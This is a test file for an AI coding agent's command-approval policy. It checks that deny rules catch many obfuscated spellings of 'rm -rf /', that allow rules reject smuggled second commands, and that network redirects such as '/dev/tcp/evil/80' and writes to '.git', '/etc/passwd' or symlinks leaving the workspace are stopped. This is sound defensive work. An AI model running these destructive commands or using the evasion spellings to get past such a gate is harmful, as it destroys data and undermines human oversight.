// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are shell command lines, `${…}` included on purpose.
// Allow and deny matching under attack (R-TOOL-2, §10): many spellings of one command, redirects,
// grants by prefix, MCP names, symlinked and protected paths.
import { linkSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type ApprovalCall, ApprovalPolicy } from "../../src/tools/policy/approval.js";
import { realPathLoose } from "../../src/tools/paths.js";
import { bashAllowMatches, bashDenyMatches } from "../../src/tools/policy/rules.js";
import { makeTempDirs, type TempDirs } from "../support/tern-home.js";
import { bashCall as bash, writeCall as write } from "./helpers.js";

let dirs: TempDirs;
beforeEach(() => {
  dirs = makeTempDirs();
});
afterEach(() => dirs.cleanup());

const mcp = (name: string, args: unknown = {}): ApprovalCall => ({ name, args, kind: "mcp", paths: [] });
type Mode = "ask" | "auto-edit" | "yolo";
const policy = (mode: Mode, allow: string[] = [], deny: string[] = []) =>
  new ApprovalPolicy({ mode, allow, deny, cwd: dirs.workspace });

describe("deny bash(rm -rf*) sees every spelling", () => {
  it.each([
    "rm -rf /",
    "/bin/rm -rf /",
    "/usr/bin/rm -rf /",
    "./rm -rf x",
    "\\rm -rf /",
    "r''m -rf /",
    '"rm" -rf /',
    "$'\\x72m' -rf /",
    "rm -r -f /",
    "rm -fr /",
    "rm -Rf /",
    "rm -fvR x",
    "rm --recursive --force x",
    "rm -f --recursive x",
    "rm x -rf",
    "rm\t-rf x",
    "rm -rf\\\n x",
    "X=1 rm -rf /",
    "X=1 Y=2 /bin/rm -fr /",
    "sudo rm -rf /",
    "sudo -u root -- rm -rf /",
    "sudo -E env PATH=$PATH rm -rf /",
    "doas rm -rf /",
    "env rm -rf /",
    "env -i FOO=1 rm -rf /",
    "env -S 'rm -rf /'",
    "nice -n 10 ionice -c3 rm -rf /",
    "timeout 5 rm -rf /",
    "timeout --signal=KILL 10s rm -rf /",
    "command rm -rf /",
    "command -p rm -rf /",
    "builtin command rm -rf /",
    "exec rm -rf /",
    "exec -a name rm -rf /",
    "nohup rm -rf / &",
    "setsid rm -rf /",
    "stdbuf -o0 rm -rf /",
    "time rm -rf /",
    "! rm -rf /",
    "busybox rm -rf /",
    "chroot / rm -rf /",
    "echo / | xargs rm -rf",
    "xargs -I{} -P4 rm -rf {}",
    "find . -exec rm -rf {} +",
    "find . -execdir rm -fr {} \\;",
    "parallel rm -rf ::: a b",
    "watch rm -rf /",
    "ssh host rm -rf /",
    "su -c 'rm -rf /' root",
    "bash -c 'rm -rf /'",
    "bash -lc 'rm -rf /'",
    "bash -xec 'rm -rf /'",
    'sh -c "rm -rf /"',
    "zsh -c 'cd / && rm -rf x'",
    "bash -c \"bash -c 'rm -rf /'\"",
    "sudo sh -c 'rm -rf /'",
    "eval rm -rf /",
    "eval 'rm -rf /'",
    "eval \"r''m -rf /\"",
    "bash <<< 'rm -rf /'",
    "bash <<EOF\nrm -rf /\nEOF",
    "sh <<'EOF'\nrm -rf /\nEOF",
    "echo 'rm -rf /' | sh",
    'bash -c "$(echo rm -rf /)"',
    "alias x='rm -rf /'",
    "echo $(rm -rf /)",
    "echo `rm -rf /`",
    'echo "$(rm -rf /)"',
    "cat <(rm -rf /)",
    "a=$(rm -rf /)",
    "echo ${x:-$(rm -rf /)}",
    "echo $((1+$(rm -rf /)))",
    "((x[$(rm -rf /)]))",
    "(rm -rf /)",
    "{ rm -rf /; }",
    "f() { rm -rf /; }; f",
    "if true; then rm -rf x; fi",
    "while true; do rm -rf x; done",
    "for d in a; do rm -rf $d; done",
    "[ -d x ] && rm -rf x",
    "true || rm -rf x",
    "echo x;rm -rf x",
    "echo x&rm -rf x",
    "echo x|rm -rf x",
    "echo x\nrm -rf x",
    "echo a#; rm -rf x",
    "git status a#; rm -rf /",
    "{rm,-rf,/}",
    "rm -{r,f} x",
    "rm${IFS}-rf${IFS}/",
    "{rm,-r${IFS}-f,x}",
    "nohup $(echo rm) -r${IFS}-f x",
    "r$X -rf /",
    "${IFS}rm -rf x",
    "x=rm; $x -rf /",
    "${RM} -rf /",
    "$(echo rm) -rf /",
    "/???/rm -rf /",
    "/usr/bin/r[m] -rf /",
    "/bin/r* -rf /",
    "echo ${}; rm -rf /",
    "echo 'unterminated; rm -rf /",
    "rm -rf / 2>/dev/null",
  ])("%j", (command) => {
    expect(bashDenyMatches("rm -rf*", command)).toBe(true);
  });

  it.each([
    "rm x",
    "rm -r x",
    "rm -f x",
    "echo rm",
    "git commit -m 'rm -rf'",
    "ls -rf",
    "rmdir -p x",
    "rm -r -- -f",
  ])("%j is not rm -rf", (command) => {
    expect(bashDenyMatches("rm -rf*", command)).toBe(false);
  });

  it("flag patterns keep their operands", () => {
    expect(bashDenyMatches("rm -rf /*", "rm -fr /")).toBe(true);
    expect(bashDenyMatches("rm -rf /*", "sudo rm -r -f /etc")).toBe(true);
    expect(bashDenyMatches("rm -rf /*", "rm -rf build")).toBe(false);
    expect(bashDenyMatches("git push*", "/usr/bin/git push --force")).toBe(true);
    expect(bashDenyMatches("git push*", "GIT_TRACE=1 git push")).toBe(true);
    for (const c of [
      "git -C repo push",
      "git --no-pager push -f",
      "git -c a=b -C x push origin",
      "/usr/bin/git --git-dir=.git push",
    ])
      expect(bashDenyMatches("git push*", c), c).toBe(true);
    for (const c of ["git log --grep push", "git commit -m push", "git status"])
      expect(bashDenyMatches("git push*", c), c).toBe(false);
  });

  it("an input too large to analyse counts as a match, never as an error", () => {
    const huge = `echo ${"{a,b}".repeat(40)}`;
    expect(bashDenyMatches("rm -rf*", huge)).toBe(true);
  });
});

describe("allow bash(git status*) covers only git status", () => {
  it.each([
    "git status",
    "git status -s",
    "git status && git status -s",
    "git status 'a;b'",
    "git status # c; rm x",
    "git status; ",
  ])("%j is covered", (command) => expect(bashAllowMatches("git status*", command)).toBe(true));
  it.each([
    "git status; rm x",
    "git status a#;rm x",
    "git status a#\nrm x",
    "git status $(rm x)",
    "git status `rm x`",
    "git status & rm x",
    "git status | rm x",
    "git status <(rm x)",
    "git status ${x:-$(rm x)}",
    "git status ${x@P}",
    "git status $[1+1]",
    "git status $((1))",
    "git status; ((x <<2))\nrm x\n2",
    "git status ${}",
    "git status 'open",
    "X=1 git status",
    "/usr/bin/git status",
    "(git status; rm x)",
    "git status <<EOF\n$(rm x)\nEOF",
  ])("%j is not covered", (command) => expect(bashAllowMatches("git status*", command)).toBe(false));
});

describe("several allow rules", () => {
  it("cover a line when each simple command matches one of them", () => {
    const p = policy("ask", ["bash(cd *)", "bash(npm test*)"]);
    expect(p.decide(bash("cd pkg && npm test"))).toBe("allow");
    expect(p.decide(bash("cd pkg && npm publish"))).toBe("ask");
    expect(policy("ask", ["bash"]).decide(bash("echo $(date)"))).toBe("ask");
    expect(policy("ask", ["bash"]).decide(bash("date -u"))).toBe("allow");
    expect(policy("ask", ["bash"]).decide(bash("echo ${}"))).toBe("ask");
  });
});

describe("redirects are writes", () => {
  it("asks, naming the path, for redirects outside the workspace, to the network, or unknown", () => {
    const p = policy("ask", ["bash(echo *)", "bash(cd *)"]);
    const cases: [string, RegExp][] = [
      ["echo x > ../x", /writes outside the workspace: .*\/x$/],
      [`echo x > ${homedir()}/.bashrc`, new RegExp(`outside the workspace: ${homedir()}/.bashrc`)],
      ["echo x > /dev/tcp/1.2.3.4/80", /network: \/dev\/tcp\/1.2.3.4\/80/],
      ["echo x >> /dev/udp/h/53", /network/],
      ["echo x 2> ../y", /outside/],
      ["echo x > .git/config", /protected folder/],
      ["echo x > .tern/config.json", /protected folder/],
      ["cd /tmp && echo x > y", /others of the line run before or beside/],
      ["echo x < /dev/tcp/evil/80", /network: \/dev\/tcp\/evil\/80/],
      // Not plainly literal: no rule covers these, whatever their target.
      ["echo x > ~/.bashrc", /plainly literal.*tilde/],
      ["echo x > $F", /plainly literal.*`\$`/],
      ["echo x > *.txt", /plainly literal.*glob/],
      ["echo x &> ../y", /plainly literal.*`&>`/],
      ["echo x >&../y", /plainly literal.*to a file/],
      ["echo x >| ../y", /plainly literal.*`>\|`/],
      ["echo x <> ../y", /plainly literal.*`<>`/],
      ["echo x > ~root/y", /plainly literal.*tilde/],
      ["echo x {fd}>../y", /plainly literal.*brace/],
      ["echo x 3</dev/udp/$H/53", /plainly literal/],
    ];
    for (const [command, reason] of cases) {
      const v = p.evaluate(bash(command));
      expect(v.decision, command).toBe("ask");
      expect(v.reason, command).toMatch(reason);
    }
  });

  it("covers redirects inside the workspace, to /dev/null and descriptor copies", () => {
    const p = policy("ask", ["bash(echo *)"]);
    for (const command of [
      "echo x > out.txt",
      "echo x 2>/dev/null",
      "echo x >&2",
      "echo x 2>&1",
      "echo x >&-",
      "echo x > /dev/stderr",
      "echo x > sub/../y",
    ])
      expect(p.decide(bash(command)), command).toBe("allow");
    // Before the literal gate these were covered too; now they ask (see the README's Safety).
    expect(p.decide(bash("echo x > /dev/tty"))).toBe("ask");
  });

  it("a redirect through a symlink that leaves the workspace asks, `..` taken after the link", () => {
    mkdirSync(join(dirs.root, "out/deep"), { recursive: true });
    symlinkSync("../out", join(dirs.workspace, "link"));
    symlinkSync("../out/deep", join(dirs.workspace, "deep"));
    const p = policy("ask", ["bash(echo *)"]);
    expect(p.decide(bash("echo x > link/f"))).toBe("ask");
    // Path arithmetic says ws/f; the kernel writes out/f.
    expect(p.evaluate(bash("echo x > deep/../f")).reason).toMatch(/outside the workspace/);
    expect(realPathLoose(join(dirs.workspace, "deep") + "/../f")).toBe(join(dirs.root, "out/f"));
  });

  it("yolo runs redirects; deny rules still win", () => {
    expect(policy("yolo").decide(bash("echo x > ../x"))).toBe("allow");
    expect(policy("yolo", [], ["bash(echo *)"]).decide(bash("echo x > ../x"))).toBe("deny");
  });

  it("an unreadable command asks with a reason and never throws", () => {
    const v = policy("ask", ["bash(echo *)"]).evaluate(bash("echo ${}"));
    expect(v).toEqual({
      decision: "ask",
      reason: expect.stringMatching(/cannot be read reliably as bash \(bad substitution/),
    });
  });
});

describe("always grants (R-TOOL-2)", () => {
  it("bash: the program and first argument, never all of bash", () => {
    const p = policy("ask");
    expect(p.describeAlways(bash("npm test -- -u"))).toMatch(/`npm test`/);
    p.grantAlways(bash("npm test -- -u"));
    expect(p.decide(bash("npm test"))).toBe("allow");
    expect(p.decide(bash("npm test --watch"))).toBe("allow");
    expect(p.decide(bash("npm run evil"))).toBe("ask");
    expect(p.decide(bash("rm -rf x"))).toBe("ask");
    expect(p.decide(bash("npm test; rm x"))).toBe("ask");
    expect(p.decide(bash("npm test $(rm x)"))).toBe("ask");
    expect(p.decide(bash("npm test > ../x"))).toBe("ask");
  });

  it("a command with a substitution cannot carry a grant", () => {
    const p = policy("ask");
    expect(p.describeAlways(bash("echo $(date)"))).toBe("this call only (this command cannot carry a grant)");
    p.grantAlways(bash("echo $(date)"));
    expect(p.decide(bash("echo hi"))).toBe("ask");
  });

  it("an MCP tool: that tool only", () => {
    const p = policy("ask");
    p.grantAlways(mcp("fs__read"));
    expect(p.decide(mcp("fs__read"))).toBe("allow");
    expect(p.decide(mcp("fs__write"))).toBe("ask");
  });
});

describe("MCP rule names (R-TOOL-2)", () => {
  it("match <set>__<tool> and mcp__<set>__<tool>, with patterns", () => {
    expect(policy("ask", ["fs__*"]).decide(mcp("fs__write_file"))).toBe("allow");
    expect(policy("ask", ["mcp__fs__*"]).decide(mcp("fs__write_file"))).toBe("allow");
    expect(policy("ask", ["mcp__fs__write_file"]).decide(mcp("fs__write_file"))).toBe("allow");
    expect(policy("ask", ["mcp__fs__write_file(*)"]).decide(mcp("fs__write_file", { path: "a" }))).toBe(
      "allow",
    );
    expect(policy("ask", ["mcp__other__*"]).decide(mcp("fs__write_file"))).toBe("ask");
    expect(policy("ask", ["mcp__fs__*"]).decide({ ...write("a"), name: "write_file" })).toBe("ask");
  });

  it("argument patterns are globs over the arguments as JSON; deny also sees each string argument", () => {
    const allow = policy("ask", ['mcp__fs__write_file({"path":"src/*)']);
    expect(allow.decide(mcp("fs__write_file", { path: "src/a.ts", content: "x" }))).toBe("allow");
    expect(allow.decide(mcp("fs__write_file", { path: "etc/a", content: "x" }))).toBe("ask");
    const deny = policy("yolo", [], ["mcp__fs__*(/etc/*)"]);
    expect(deny.evaluate(mcp("fs__write_file", { path: "/etc/passwd" }))).toEqual({
      decision: "deny",
      rule: "mcp__fs__*(/etc/*)",
    });
    expect(deny.decide(mcp("fs__write_file", { path: "/tmp/x" }))).toBe("allow");
    expect(policy("yolo", [], ["fs__delete"]).decide(mcp("fs__delete"))).toBe("deny");
  });
});

describe("paths resolved through symlinks (§10)", () => {
  it("realPathLoose follows dangling links, chains and symlinked parents", () => {
    const out = join(dirs.root, "out");
    mkdirSync(out);
    symlinkSync("../out/new.txt", join(dirs.workspace, "dangling"));
    symlinkSync("dangling", join(dirs.workspace, "chain"));
    symlinkSync("../out", join(dirs.workspace, "dir"));
    symlinkSync("loop2", join(dirs.workspace, "loop1"));
    symlinkSync("loop1", join(dirs.workspace, "loop2"));
    expect(realPathLoose(join(dirs.workspace, "dangling"))).toBe(join(out, "new.txt"));
    expect(realPathLoose(join(dirs.workspace, "chain"))).toBe(join(out, "new.txt"));
    expect(realPathLoose(join(dirs.workspace, "dir/a/b.txt"))).toBe(join(out, "a/b.txt"));
    expect(() => realPathLoose(join(dirs.workspace, "loop1/x"))).not.toThrow();
  });

  it("a file with another hard link asks: its content may live outside the workspace too", () => {
    writeFileSync(join(dirs.root, "outside.txt"), "x");
    linkSync(join(dirs.root, "outside.txt"), join(dirs.workspace, "hard.txt"));
    expect(policy("auto-edit").evaluate(write("hard.txt")).reason).toMatch(/several hard links/);
    expect(policy("auto-edit", ["write_file"]).decide(write("hard.txt"))).toBe("ask");
  });

  it("allow path rules match the resolved path; deny rules match either", () => {
    writeFileSync(join(dirs.workspace, "package.json"), "{}");
    mkdirSync(join(dirs.workspace, "src"));
    symlinkSync("../package.json", join(dirs.workspace, "src/link"));
    const p = policy("ask", ["write_file(src/**)"], ["write_file(package.json)"]);
    expect(p.decide(write("src/link"))).toBe("deny");
    expect(policy("ask", ["write_file(src/**)"]).decide(write("src/link"))).toBe("ask");
    expect(policy("ask", ["write_file(src/**)"]).decide(write("src/real.ts"))).toBe("allow");
  });

  it(".git/ and .tern/ ask in ask and auto-edit, even with an allow rule; yolo and an approval naming the path allow", () => {
    for (const path of [
      ".git/config",
      ".git/hooks/pre-commit",
      ".tern/config.json",
      ".GIT/config",
      "sub/.git/config",
    ]) {
      expect(policy("auto-edit").evaluate(write(path)).reason, path).toMatch(/asks in every mode but yolo/);
      expect(policy("ask", ["write_file"]).decide(write(path)), path).toBe("ask");
      expect(policy("yolo").decide(write(path)), path).toBe("allow");
    }
    const p = policy("auto-edit");
    p.grantAlways(write(".git/config"));
    expect(p.decide(write(".git/config"))).toBe("allow");
    expect(p.decide(write(".git/HEAD"))).toBe("ask");
    expect(policy("auto-edit").decide(write("src/.gitignore"))).toBe("allow");
  });
});
